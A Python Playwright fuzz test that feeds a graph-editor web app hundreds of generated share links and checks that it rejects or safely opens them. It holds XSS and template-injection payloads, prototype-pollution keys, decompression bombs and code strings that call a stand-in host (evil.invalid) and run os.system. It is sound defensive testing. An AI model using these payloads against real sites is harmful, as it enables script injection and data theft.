"""A few hundred generated hostile links, opened one after another in ONE page.

The page reads the address fragment when it changes (a link pasted into an open tab), so
every link is opened by setting location.hash. For each link, in the page itself:

- the page says what it did (<html data-link="opened|refused">) within a bounded time;
- a link the generator knows is broken shows an alert (short: bad input is only quoted as
  an excerpt) and leaves the saved graph byte for byte as it was;
- a link that opened can be undone: Undo brings the saved graph back;
- Object.prototype is untouched, and no injected markup or script ran (window.__pwned).

At the end: no page error and no console error, no request off the page's origin (nor for
the `x` of `<img src=x>`), no code cell ran (code from &c= only fills the Code box; a probe
cell finds none of the names that code would have defined), and the figures are printed.
Set E2E_FUZZ_SEED to replay another set of links.
"""

from __future__ import annotations

import json
import os
import random
import string
from collections import Counter, defaultdict
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

from conftest import PageLog
from links import (
    DOC_KEY,
    PROTOTYPE_PROBE,
    SAVED_DOC,
    b64url,
    deflate_raw,
    encode,
    encode_text,
    renderer_rss_mib,
    save_in_browser,
)
from playwright.sync_api import Page, expect

ROOT = Path(__file__).resolve().parent.parent
CATALOG = json.loads((ROOT / "web" / "src" / "generated" / "op-catalog.json").read_text())
OPS = {o["op"]: o for o in CATALOG["ops"]}
SEED = int(os.environ.get("E2E_FUZZ_SEED", "20251130"))
# Every link, the 2,000-node ones included, must be dealt with (and drawn once) within this.
MAX_LINK_MS = 5000

INJECTIONS = [
    "<img src=x onerror=window.__pwned=1>",
    "</script><script>window.__pwned=1</script>",
    "\"'><svg onload=window.__pwned=1>",
    "javascript:window.__pwned=1",
    "${window.__pwned=1}",
    "{{constructor.constructor('window.__pwned=1')()}}",
    "\u202egnp.exe",
    "a\u0000b\u0007c",
    "line\nbreak\r\n",
    "' OR 1=1 --",
    "%3Cscript%3E",
    '\\"\\u0000',
]
PROTO_NAMES = [
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    "valueOf",
    "isPrototypeOf",
    "__defineGetter__",
    "propertyIsEnumerable",
]


@dataclass
class Link:
    kind: str
    hash: str
    expect: str  # "opened", "refused" or "either" (a corrupted link may still be valid)
    note: str = ""


def g(doc: object, code: str | None = None) -> str:
    return f"#g={encode(doc)}" + (f"&c={encode_text(code)}" if code is not None else "")


def g_text(text: str) -> str:
    return f"#g={b64url(deflate_raw(text.encode()))}"


def small_doc() -> dict[str, Any]:
    return {
        "version": 1,
        "nodes": [
            {
                "id": "x",
                "op": "tensor",
                "label": "x",
                "pos": [0, 0],
                "params": {"value": [1.0, 2.0], "requires_grad": True},
            },
            {"id": "y", "op": "mul", "pos": [360, 0], "inputs": ["x", "x"]},
            {"id": "z", "op": "sum", "label": "z", "pos": [720, 0], "inputs": ["y"]},
        ],
    }


def random_graph(rng: random.Random, n: int, *, positions: bool) -> dict[str, Any]:
    """A valid document: leaves first, then ops whose inputs are earlier nodes."""
    nodes: list[dict[str, Any]] = []
    for i in range(n):
        if i < 2 or rng.random() < 0.25:
            node: dict[str, Any] = {
                "id": f"n{i}",
                "op": "tensor",
                "params": {
                    "value": [round(rng.uniform(-3, 3), 3) for _ in range(3)],
                    "requires_grad": rng.random() < 0.5,
                },
            }
        else:
            op = rng.choice([o for o in OPS.values() if not o["leaf"]])
            ins = [f"n{rng.randrange(i)}" for _ in op["inputs"]]
            if rng.random() < 0.2 and ins:
                ins[-1] = None  # an unconnected port is the node's error, not the document's
            node = {"id": f"n{i}", "op": op["op"], "inputs": ins}
        if rng.random() < 0.3:
            node["label"] = rng.choice(["loss", "w", "ŷ", "λ·x", "σ", f"t{i}"])
        if positions:
            node["pos"] = [rng.randint(-5000, 5000), rng.randint(-5000, 5000)]
        nodes.append(node)
    rng.shuffle(nodes)
    return {"version": 1, "nodes": nodes}


def random_bytes(rng: random.Random) -> list[Link]:
    out = []
    for i in range(30):
        data = bytes(rng.randrange(256) for _ in range(rng.randint(1, 300)))
        if i % 3 == 0:  # not even base64url
            text = "".join(rng.choice(string.printable) for _ in range(rng.randint(1, 120)))
            out.append(Link("random bytes", "#g=" + text, "refused"))
        else:
            out.append(Link("random bytes", "#g=" + b64url(data), "refused"))
    return out


def corrupted(rng: random.Random) -> list[Link]:
    out = []
    for i in range(30):
        link = g(random_graph(rng, rng.randint(2, 12), positions=rng.random() < 0.5))
        body = link[3:]
        if i % 2:
            cut = rng.randint(1, len(body) - 1)
            out.append(Link("truncated/corrupted", "#g=" + body[:cut], "either"))
        else:
            k = rng.randrange(len(body))
            c = rng.choice(string.ascii_letters + string.digits + "-_")
            out.append(Link("truncated/corrupted", "#g=" + body[:k] + c + body[k + 1 :], "either"))
    return out


# Per field: values that field may never hold (None is fine where the field is optional).
WRONG: dict[str, list[Any]] = {
    "version": [0, 3, "1", 1.5, True, None, [], {}, [1]],
    "nodes": [0, "x", True, None, {}, {"0": {}}],
    "node": [0, "x", True, None, [], [1]],
    "id": [0, 1.5, True, None, [], {}, "", "x" * 65, ["a"]],
    "op": [0, True, None, [], {}, "", "x" * 65, "Tensor", "tensor "],
    "label": [0, True, [], {}, "x" * 201],
    "pos": [0, "0,0", True, [], [1], [1, 2, 3], ["1", 2], [None, 0], {"x": 0}],
    "params": [0, "x", True, [], [1]],
    "param value": [
        "s" * 201,
        [[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[1]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]],
    ],
    "inputs": [0, "x", True, {}, [1], [True], ["x" * 65], ["x", "x", "x"]],
    "retain_grad": [0, 1, "true", [], {}],
    "no_grad": [0, "false", [False], {}],
}


def wrong_types(rng: random.Random) -> list[Link]:
    out = []
    for field, values in WRONG.items():
        for value in rng.sample(values, min(len(values), 4)):
            doc = small_doc()
            node = doc["nodes"][rng.randrange(3)] if field not in ("version", "nodes") else None
            if field in ("version", "nodes"):
                doc[field] = value
            elif field == "node":
                doc["nodes"][rng.randrange(3)] = value
            elif field == "param value":
                node = doc["nodes"][0]
                node["params"]["value"] = value
            elif field == "inputs":
                node = doc["nodes"][1 + rng.randrange(2)]
                node["inputs"] = value
            else:
                assert node is not None
                node[field] = value
            out.append(Link("wrong types", g(doc), "refused", f"{field}={str(value)[:20]}"))
    return out


def unknown_ops(rng: random.Random) -> list[Link]:
    ops = ["__import__('os')", "eval", "Function", "constructor", "exec", "fetch", "<b>op</b>"]
    ops += ["matmul2", "SUM", "tensor\u200b", "relu;", "𝚛𝚎𝚕𝚞", "toString", "__proto__"]
    out = []
    for op in ops:
        doc = small_doc()
        doc["nodes"][rng.randrange(3)]["op"] = op
        out.append(Link("unknown ops", g(doc), "refused", op))
    return out


def cycles(rng: random.Random) -> list[Link]:
    out = []
    for i in range(15):
        n = rng.randint(2, 40)
        nodes = [{"id": f"c{k}", "op": "neg", "inputs": [f"c{(k + 1) % n}"]} for k in range(n)]
        if i % 3 == 0:  # a node feeding itself
            nodes.append({"id": "self", "op": "exp", "inputs": ["self"]})
        if i % 2:
            for node in nodes:
                node["pos"] = [rng.randint(0, 3000), rng.randint(0, 3000)]
        out.append(Link("cycles", g({"version": 1, "nodes": nodes}), "opened", f"{n} nodes"))
    return out


def huge_numbers(rng: random.Random) -> list[Link]:
    out = []
    valid_values: list[Any] = [[1e308, -1e308], 2**63, [10**30, -(10**30)], 5e-324, [1e-300]]
    for v in valid_values:
        doc = small_doc()
        doc["nodes"][0]["params"]["value"] = v
        out.append(Link("huge numbers", g(doc), "opened", str(v)[:20]))
    for pos in ([999_999, -999_999], [1_000_000, 1_000_000], [0.5, -0.25]):
        doc = small_doc()
        doc["nodes"][2]["pos"] = pos
        out.append(Link("huge numbers", g(doc), "opened", f"pos {pos}"))
    for pos in ([1e300, 0], [0, -1e300], [1_000_001, 0], [1e7, 1e7]):
        doc = small_doc()
        doc["nodes"][rng.randrange(3)]["pos"] = pos
        out.append(Link("huge numbers", g(doc), "refused", f"pos {pos}"))
    text = json.dumps(small_doc())
    for literal in ("1e400", "-1e999", "1e309"):
        bad = text.replace("[1.0, 2.0]", f"[1.0, {literal}]")
        out.append(Link("huge numbers", g_text(bad), "refused", literal))
        bad_pos = text.replace("[360, 0]", f"[{literal}, 0]")
        out.append(Link("huge numbers", g_text(bad_pos), "refused", f"pos {literal}"))
    # 9e9 is three characters here and ten once the page writes the request out.
    big = {"version": 1, "nodes": [{"id": "b", "op": "tensor", "params": {"value": [1] * 5}}]}
    bulk = json.dumps(big).replace("[1, 1, 1, 1, 1]", "[" + ",".join(["9e9"] * 450_000) + "]")
    out.append(Link("huge numbers", g_text(bulk), "refused", "1.8 MB of 9e9"))
    return out


def injection(rng: random.Random) -> list[Link]:
    out = []
    for i, payload in enumerate(INJECTIONS * 2):
        doc = small_doc()
        node = doc["nodes"][rng.randrange(3)]
        if i < len(INJECTIONS):  # as the id, and every wire to it
            new = payload[:64]
            for other in doc["nodes"]:
                other["inputs"] = [new if s == node["id"] else s for s in other.get("inputs", [])]
            node["id"] = new
        else:
            node["label"] = payload
        out.append(Link("injection", g(doc), "opened", payload[:20]))
    # A wire to an id that does not exist is that node's error.
    doc = small_doc()
    doc["nodes"][2]["inputs"] = [INJECTIONS[0]]
    out.append(Link("injection", g(doc), "opened", "dangling wire"))
    return out


def proto(rng: random.Random) -> list[Link]:
    out = []
    for name in PROTO_NAMES:
        nodes = [
            {"id": name, "op": "tensor", "params": {"value": [1.0, -1.0]}},
            {"id": "isAdmin", "op": "neg", "inputs": [name]},
            {"id": f"{name}2", "op": "exp", "inputs": ["isAdmin"]},
        ]
        out.append(Link("__proto__ keys", g({"version": 1, "nodes": nodes}), "opened", name))
        params = {"value": 2.0, name: {"isAdmin": 1}}
        doc = {"version": 1, "nodes": [{"id": "p", "op": "tensor", "params": params}]}
        out.append(Link("__proto__ keys", g(doc), "opened", f"param {name}"))
    # A node object with its own "__proto__" key: only the node's own fields count.
    text = json.dumps(small_doc()).replace(
        '{"id": "y"', '{"__proto__": {"isAdmin": 1, "label": 5}, "id": "y"'
    )
    out.append(Link("__proto__ keys", g_text(text), "opened", "node __proto__ key"))
    text = '{"__proto__": {"version": 1, "nodes": []}}'
    out.append(Link("__proto__ keys", g_text(text), "refused", "version only in __proto__"))
    text = '{"version": 1, "nodes": [{"__proto__": {"id": "a", "op": "tensor"}}]}'
    out.append(Link("__proto__ keys", g_text(text), "refused", "id only in __proto__"))
    # A cycle through __proto__ and constructor, without positions (the layout's worst case).
    nodes = [
        {"id": "__proto__", "op": "neg", "inputs": ["constructor"]},
        {"id": "constructor", "op": "neg", "inputs": ["__proto__"]},
    ]
    out.append(Link("__proto__ keys", g({"version": 1, "nodes": nodes}), "opened", "cycle"))
    return out


def bombs(rng: random.Random) -> list[Link]:
    texts = [
        '{"version": 1, "nodes": [' + " " * 3_000_000 + "]}",
        "A" * 10_000_000,
        "[" * 3_000_000,
        '{"version": 1, "nodes": [{"id": "a", "op": "tensor", "params": {"value": '
        + "[" * 900_000
        + "]" * 900_000
        + "}}]}",
        json.dumps(
            {"version": 1, "nodes": [{"id": "a", "op": "tensor", "label": "x" * 5_000_000}]}
        ),
    ]
    out = [Link("deflate bombs", g_text(t), "refused", f"{len(t):,} bytes") for t in texts]
    code_bomb = f"#g={encode(small_doc())}&c={encode_text('#' * 1_000_000)}"
    out.append(Link("deflate bombs", code_bomb, "refused", "code part"))
    return out


def code_links(rng: random.Random) -> list[Link]:
    out = []
    for i in range(10):
        code = (
            f"import js\njs.fetch('http://evil.invalid/ran{i}')\npwned_{i} = 1\n"
            "print('PWNED')\nimport os\nos.system('touch /tmp/pwned')"
        )
        out.append(Link("code in &c=", g(small_doc(), code), "opened"))
    out.append(Link("code in &c=", f"#g={encode(small_doc())}&c=%%%", "refused", "bad code"))
    out.append(Link("code in &c=", f"#g={encode(small_doc())}&c=AAAA", "refused", "bad code"))
    out.append(Link("code in &c=", f"#g=&c={encode_text('pwned_x = 1')}", "refused", "no graph"))
    bad_doc = f"#g={encode({'version': 7, 'nodes': []})}&c={encode_text('pwned_y = 1')}"
    out.append(Link("code in &c=", bad_doc, "refused", "bad graph, good code"))
    return out


def valid(rng: random.Random) -> list[Link]:
    return [
        Link(
            "valid random graphs",
            g(random_graph(rng, rng.randint(1, 40), positions=i % 2 == 0)),
            "opened",
        )
        for i in range(40)
    ]


def large() -> list[Link]:
    fan_in = [{"id": "x", "op": "tensor", "params": {"value": 1.0}}]
    fan_in += [
        {"id": f"a{i}", "op": "add", "inputs": ["x", f"a{i - 1}" if i else "x"]} for i in range(300)
    ]
    chain = [{"id": "c0", "op": "tensor", "params": {"value": 0.5}}]
    chain += [{"id": f"c{i}", "op": "sin", "inputs": [f"c{i - 1}"]} for i in range(1, 2000)]
    ring = [dict(chain[0], op="neg", inputs=["c1999"])] + chain[1:]
    return [
        Link("large, no positions", g({"version": 1, "nodes": fan_in}), "opened", "300 fan-in"),
        Link("large, no positions", g({"version": 1, "nodes": chain}), "opened", "2,000 chain"),
        Link("large, no positions", g({"version": 1, "nodes": ring}), "opened", "2,000 ring"),
        Link("large, no positions", g({"version": 1, "nodes": fan_in}), "opened", "300 again"),
    ]


def lessons() -> list[Link]:
    bad = ["%", "bogus", "", "%E0%A4%A", "x" * 300, "<img src=x onerror=window.__pwned=1>"]
    out = [Link("lesson links", f"#lesson={b}", "refused", b[:20]) for b in bad]
    out += [Link("lesson links", f"#lesson={b}", "opened", b) for b in ("gradient", "detach")]
    return out


def limits(rng: random.Random) -> list[Link]:
    many = [{"id": f"n{i}", "op": "tensor"} for i in range(2001)]
    docs = {
        "2,001 nodes": {"version": 1, "nodes": many},
        "version 100k chars": {"version": "v" * 100_000, "nodes": []},
        "33 params": {
            "version": 1,
            "nodes": [{"id": "a", "op": "tensor", "params": {f"p{i}": 0 for i in range(33)}}],
        },
        "duplicate ids": {"version": 1, "nodes": [{"id": "a", "op": "neg"}] * 2},
        "too many inputs": {
            "version": 1,
            "nodes": [{"id": "a", "op": "neg", "inputs": [None] * 2}],
        },
    }
    out = [Link("limits", g(d), "refused", k) for k, d in docs.items()]
    out.append(Link("limits", "#g=" + "A" * 200_001, "refused", "link too long"))
    out.append(Link("limits", "#g=", "refused", "empty"))
    return out


def generate(seed: int) -> list[Link]:
    rng = random.Random(seed)
    links = [
        *random_bytes(rng),
        *corrupted(rng),
        *wrong_types(rng),
        *unknown_ops(rng),
        *cycles(rng),
        *huge_numbers(rng),
        *injection(rng),
        *proto(rng),
        *bombs(rng),
        *code_links(rng),
        *valid(rng),
        *large(),
        *lessons(),
        *limits(rng),
    ]
    rng.shuffle(links)
    return links


# One link, entirely in the page: open it, wait for the outcome and one drawn frame, look.
STEP = """async ([hash, key, maxMs]) => {
  const html = document.documentElement;
  const until = async (ok, ms) => {
    const end = performance.now() + ms;
    while (!ok()) {
      if (performance.now() > end) return false;
      await new Promise(r => setTimeout(r, 2));
    }
    return true;
  };
  const frame = () => new Promise(r => requestAnimationFrame(() => setTimeout(r, 0)));
  document.querySelector('.alert-link .alert-close')?.click();
  await until(() => !document.querySelector('.alert-link'), 1000);
  const before = localStorage.getItem(key);
  html.dataset.link = '';
  const t0 = performance.now();
  location.hash = hash;
  const done = await until(() => !!html.dataset.link, maxMs);
  await frame();
  const ms = performance.now() - t0;
  const outcome = done ? html.dataset.link : 'timeout';
  const alert = document.querySelector('.alert-link');
  const result = {
    outcome, ms, before,
    alert: alert ? alert.innerText : null,
    after: localStorage.getItem(key),
    undone: null,
    nodes: document.querySelectorAll('[data-node-id]').length,
    pwned: typeof window.__pwned,
    hash: location.hash,
  };
  if (outcome === 'opened') {
    [...document.querySelectorAll('button')].find(b => b.textContent === 'Undo')?.click();
    await until(() => localStorage.getItem(key) === before, 2000);
    result.undone = localStorage.getItem(key);
  }
  return result;
}"""


def check(link: Link, r: dict[str, Any], saved: str) -> list[str]:
    problems = []
    if r["outcome"] == "timeout" or r["ms"] > MAX_LINK_MS:
        problems.append(f"took {r['ms']:.0f} ms ({r['outcome']})")
    if link.expect != "either" and r["outcome"] != link.expect:
        problems.append(f"{r['outcome']}, expected {link.expect}")
    if r["before"] != saved:
        problems.append("the saved graph had changed before the link")
    if r["outcome"] == "refused":
        if r["alert"] is None:
            problems.append("no alert")
        elif len(r["alert"]) > 600:
            problems.append(f"alert of {len(r['alert'])} characters")
        if r["after"] != saved:
            problems.append("the saved graph changed")
    if r["outcome"] == "opened" and r["undone"] != saved:
        problems.append("Undo did not bring the saved graph back")
    if r["pwned"] != "undefined":
        problems.append("injected code ran")
    # An opened lesson puts its own #lesson= link in the address (issue 12); nothing else stays.
    lesson = link.kind == "lesson links" and r["outcome"] == "opened"
    if lesson and r["hash"] != link.hash:
        problems.append(f"the address shows {r['hash']!r}, not the opened lesson's link")
    if not lesson and r["hash"] not in ("", "#"):
        problems.append("the link stayed in the address")
    return problems


def test_fuzz_share_links(
    page: Page,
    base_url: str,
    page_log: PageLog,
    wait_for_engine: Callable[..., None],
    screenshot: Callable[..., Path],
) -> None:
    links = generate(SEED)
    save_in_browser(page, base_url, SAVED_DOC)
    page.reload()
    expect(page.locator("[data-node-id]")).to_have_count(3)
    saved = page.evaluate(f"localStorage.getItem('{DOC_KEY}')")
    fresh = page.evaluate(PROTOTYPE_PROBE)
    page.evaluate(
        """() => { window.__longest = 0; new PerformanceObserver(l => l.getEntries()
             .forEach(e => { window.__longest = Math.max(window.__longest, e.duration) }))
             .observe({type: 'longtask'}); }"""
    )

    by_kind: dict[str, Counter[str]] = defaultdict(Counter)
    worst: dict[str, float] = defaultdict(float)
    failures: list[str] = []
    peak_mib = start_mib = renderer_rss_mib()
    for i, link in enumerate(links):
        r = page.evaluate(STEP, [link.hash, DOC_KEY, MAX_LINK_MS])
        peak_mib = max(peak_mib, renderer_rss_mib())
        problems = check(link, r, saved)
        if page.evaluate(PROTOTYPE_PROBE) != fresh:
            problems.append("Object.prototype changed")
            fresh = page.evaluate(PROTOTYPE_PROBE)  # report each change once
        by_kind[link.kind][r["outcome"]] += 1
        by_kind[link.kind]["failed"] += bool(problems)
        worst[link.kind] = max(worst[link.kind], r["ms"])
        failures += [f"#{i} {link.kind} ({link.note}): {p}" for p in problems]

    # Code from the links only ever filled the Code box: no cell ran, the namespace is empty.
    expect(page.locator("[data-cell-output]")).to_have_count(0)
    wait_for_engine(page)
    box = page.get_by_role("textbox", name="Code", exact=True)
    box.fill('print(sorted(k for k in globals() if k.startswith("pwned")))')
    page.get_by_role("button", name="Run", exact=True).click()
    expect(page.locator("[data-cell-output]")).to_have_text("[]\n", timeout=60_000)
    screenshot(page)

    longest = page.evaluate("window.__longest")
    print(f"\nfuzz: {len(links)} links (seed {SEED}), {len(failures)} problems")
    print(f"{'class':<22}{'links':>6}{'opened':>8}{'refused':>9}{'failed':>8}{'worst ms':>10}")
    for kind in sorted(by_kind):
        c = by_kind[kind]
        n = c["opened"] + c["refused"] + c["timeout"]
        print(
            f"{kind:<22}{n:>6}{c['opened']:>8}{c['refused']:>9}{c['failed']:>8}{worst[kind]:>10.0f}"
        )
    print(f"longest main-thread task during the links: {longest:.0f} ms")
    # a figure to read, not a bound: memory targets belong in benchmarks
    print(f"page processes' memory: {start_mib:.0f} MiB before the links, peak {peak_mib:.0f} MiB")
    for f in failures[:40]:
        print("  ", f)

    assert failures == []
    assert page_log.page_errors == []
    assert page_log.console_errors == []
    assert page_log.foreign_requests() == []
    assert [r.url for r in page_log.requests if urlsplit(r.url).path.endswith("/x")] == []
